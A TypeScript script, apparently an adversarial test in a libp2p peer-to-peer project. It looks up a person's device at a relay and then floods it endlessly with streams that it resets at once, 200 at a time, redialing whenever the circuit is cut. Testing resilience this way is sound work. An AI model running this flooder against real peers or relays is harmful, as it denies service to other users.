import { setTimeout as wait } from 'node:timers/promises';
import { circuitRelayTransport } from '@libp2p/circuit-relay-v2';
import { identify } from '@libp2p/identify';
import { noise } from '@libp2p/noise';
import { webSockets } from '@libp2p/websockets';
import { yamux } from '@libp2p/yamux';
import { lpStream } from '@libp2p/utils';
import { multiaddr } from '@multiformats/multiaddr';
import { createLibp2p } from 'libp2p';
import { newestPresence, presenceQuestion } from '#lib/core/presence/person-records.ts';
import type { IdentityKey } from '#lib/domain/ids.ts';
import { CALL_PROTOCOL, LOOKUP_PROTOCOL } from '#lib/protocol/names.ts';

/**
 * `stream-flood.ts RELAY KEY`: a stranger who looks up a person's page at a relay, and opens streams to it that it resets
 * at once, as many as it can, on a new circuit whenever the page has cut the last one. Prints a line for each circuit
 * that was cut.
 */
const [relay = '', key = ''] = process.argv.slice(2);
/** Streams that are opened side by side: above the budget of a page, and in frames below that of a relay. */
const AT_ONCE = 200;
/** From one such burst to the next, ms: enough to hear that it was one too many. */
const PAUSE_MS = 50;

const attacker = await createLibp2p({
  addresses: { listen: [] },
  transports: [webSockets(), circuitRelayTransport()],
  connectionEncrypters: [noise()],
  streamMuxers: [yamux()],
  connectionGater: { denyDialMultiaddr: () => false },
  connectionManager: { reconnectRetries: 0 },
  services: { identify: identify() },
});

const device = await deviceOf(key as IdentityKey);
const target = multiaddr(`${relay}/p2p-circuit/p2p/${device}`);
const options = { maxOutboundStreams: Infinity, runOnLimitedConnection: true };
for (;;) {
  try {
    const circuit = await attacker.dial(target);
    while (circuit.status === 'open') {
      const opened = Array.from({ length: AT_ONCE }, () =>
        circuit.newStream(CALL_PROTOCOL, { ...options, negotiateFully: false }).then(
          (stream) => stream.abort(new Error('reset')),
          () => undefined,
        ),
      );
      await Promise.all(opened);
      await wait(PAUSE_MS);
    }
    process.stdout.write('cut\n');
  } catch {
    // The relay gives a stranger only so many circuits: it tries on.
    await wait(100);
  }
}

async function deviceOf(person: IdentityKey): Promise<string> {
  const connection = await attacker.dial(multiaddr(relay));
  const frames = lpStream(await connection.newStream(LOOKUP_PROTOCOL));
  await frames.write(await presenceQuestion(person, Date.now()));
  const answer = new Uint8Array((await frames.read()).subarray());
  const presence = await newestPresence(answer, person, Date.now(), 0);
  const [found] = presence?.devices ?? [];
  if (found === undefined) throw new Error('nobody of that key is there');
  return found;
}
